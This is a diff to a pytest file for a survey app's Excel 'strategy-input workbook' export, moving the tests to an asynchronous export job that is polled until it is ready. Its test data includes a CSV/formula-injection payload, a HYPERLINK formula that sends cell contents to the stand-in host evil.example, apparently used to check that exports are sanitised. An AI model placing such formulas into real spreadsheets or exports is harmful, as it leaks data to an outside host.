@@ -1,13 +1,16 @@
-"""The strategy-input workbook a planner takes to the council."""
+"""The strategy-input workbook a planner takes to the council, asked for on the
+results page and written by the app's own background worker."""
 
 from __future__ import annotations
 
 import io
+import re
+import time
 
 import pytest
 from openpyxl import load_workbook
 
-from tests.fixtures import send_survey, sign_in
+from tests.fixtures import post_form, send_survey, sign_in
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -42,11 +45,31 @@ def survey(make_survey, client):
     return survey
 
 
+def export(client, survey_id: int, fmt: str = "xlsx"):
+    """Ask for an export as the results page's button does, wait for the app's job
+    worker to write it (the page says when), and download it."""
+    asked = post_form(
+        client,
+        f"/staff/surveys/{survey_id}/results",
+        f"/staff/surveys/{survey_id}/exports",
+        {"format": fmt},
+    )
+    assert asked.status_code == 303
+    job = asked.headers["location"]
+    assert re.fullmatch(r"/staff/exports/\d+", job)
+    deadline = time.monotonic() + 30
+    while "Ready to download" not in (page := client.get(job).text):
+        assert "Failed" not in page
+        assert time.monotonic() < deadline, "the export did not finish within 30 s"
+        time.sleep(0.2)
+    return client.get(f"{job}/download")
+
+
 @pytest.fixture(scope="module")
 def workbook(client, make_staff, survey):
     make_staff("hanna.planner", "planner")
     assert sign_in(client, "hanna.planner").status_code == 303
-    response = client.get(f"/staff/surveys/{survey.survey_id}/export.xlsx")
+    response = export(client, survey.survey_id)
     client.cookies.clear()
     assert response.status_code == 200
     assert response.headers["content-type"].startswith(
@@ -107,20 +130,15 @@ def test_a_workbook_written_in_batches_has_every_response_once(
     client, make_staff, survey, monkeypatch
 ):
     """Exports read responses a batch at a time; rows must neither repeat nor go
-    missing at the seams, and the temporary file is gone once sent."""
-    import tempfile
-    from pathlib import Path
-
+    missing at the seams."""
     from analysis import services
 
     monkeypatch.setattr(services, "EXPORT_BATCH", 4)
-    leftovers = set(Path(tempfile.gettempdir()).glob("consult-export-*"))
     make_staff("batch.planner", "planner")
     sign_in(client, "batch.planner")
-    response = client.get(f"/staff/surveys/{survey.survey_id}/export.xlsx")
+    response = export(client, survey.survey_id)
     client.cookies.clear()
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.content)).worksheets[1]
     numbers = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
     assert numbers == list(range(1, len(HOSTILE) + 1))
-    assert set(Path(tempfile.gettempdir()).glob("consult-export-*")) == leftovers
